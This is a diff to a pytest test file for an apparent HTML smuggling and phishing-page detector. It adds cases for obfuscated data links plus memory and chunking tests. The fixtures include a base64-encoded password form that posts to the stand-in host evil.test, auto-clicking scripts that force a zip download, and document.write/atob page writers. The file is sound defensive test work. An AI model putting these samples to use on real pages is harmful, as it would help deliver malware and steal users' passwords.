@@ -2,6 +2,7 @@
 
 import base64
 import io
+import tracemalloc
 import zipfile
 
 import pytest
@@ -22,6 +23,7 @@ SECRET = base64.b64encode(bytes(byte ^ place * 7 & 0xFF for place, byte in enume
 PAGE = base64.b64encode(
     b"<html><body><form action='https://evil.test'><input type=password></form>" + b" " * 99
 ).decode()
+FORM = {"page-form", "page-password-field"}
 PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode()
 FONT = base64.b64encode(b"wOF2" + bytes(200)).decode()
 VALUES = ",".join("0.5" for _ in range(300))
@@ -48,10 +50,14 @@ def seen(text: str, kind: str = "html") -> set[str]:
             f"<a href='data:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = 'a.zip'</script>",
             {"page-script", "smuggling", "page-data-link"},
         ),
-        (f"<script>document.write(atob('{PAGE}'))</script>", {"page-script", "written-page"}),
+        (
+            f"<a href='&#100;ata:application/zip;base64,{ZIP}' id=a></a><script>a.click(); a.download = ''</script>",
+            {"page-script", "smuggling", "page-data-link"},
+        ),
+        (f"<script>document.write(atob('{PAGE}'))</script>", {"page-script", "written-page", *FORM}),
         (
             f"<script>document.write(unescape('{''.join(f'%{byte:02x}' for byte in b'<html><form>' * 20)}'))</script>",
-            {"page-script", "written-page"},
+            {"page-script", "written-page", "page-form"},
         ),
         # A saved page: pictures, fonts and scripts that fetch, none that saves.
         (
@@ -67,7 +73,7 @@ def seen(text: str, kind: str = "html") -> set[str]:
         ("<html><body><h1>Invoice 17</h1><table><tr><td>Total</td><td>12.00</td></tr></table>", set()),
         ("<script type='application/ld+json'>{}</script>", set()),
     ],
-    ids=range(12),
+    ids=range(13),
 )
 def test_pages(text: str, expected: set[str]) -> None:
     assert seen(text) == expected
@@ -99,3 +105,45 @@ def test_a_page_within_an_archive_gives_its_links() -> None:
 @pytest.mark.parametrize("piece", ["'", '"\\', "data:application/x;base64,", "[1,", "%41", "<script>", "atob('A"])
 def test_no_page_costs_more_than_linear_time(piece: str) -> None:
     assert isinstance(contents("<script>atob()" + piece * 100_000), Contents)
+
+
+N = 1_200_000
+
+
+@pytest.mark.parametrize(
+    "literal",
+    [
+        "A" * N,
+        "41" * (N // 2),
+        "%41" * (N // 3),
+        "\\x41" * (N // 4),
+        "QUJD\\n" * (N // 6),
+        "','" * (N // 3),
+        "65," * (N // 3),
+    ],
+)
+@pytest.mark.parametrize("marks", ["''", "[]", "()"])
+def test_giant_literals_cost_little_memory(literal: str, marks: str) -> None:
+    """Each is read with a few copies of its text; anything that costs memory for each character would show."""
+    page = f"<script>var u = atob({marks[0]}{literal}{marks[1]}); {SAVE}</script>"
+    contents("<script>atob('x')</script>")
+    tracemalloc.start()
+    try:
+        contents(page)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 16 * N
+
+
+@pytest.mark.parametrize("size", [100, 59_999, 60_000, 60_001, 200_000])
+@pytest.mark.parametrize("form", ["decimal", "hexadecimal", "percent"])
+def test_chunks_lose_nothing(form: str, size: int) -> None:
+    content = bytes(32 + place * 7 % 220 for place in range(size))
+    literal = {
+        "decimal": "[" + ", ".join(map(str, content)) + "]",
+        "hexadecimal": "[" + ",".join(map(hex, content)) + "]",
+        "percent": "'" + "".join(f"%{byte:02x}" for byte in content) + "'",
+    }[form]
+    (member,) = contents(f"<script>var u = unescape({literal}); {SAVE}</script>").members
+    assert member.content == content
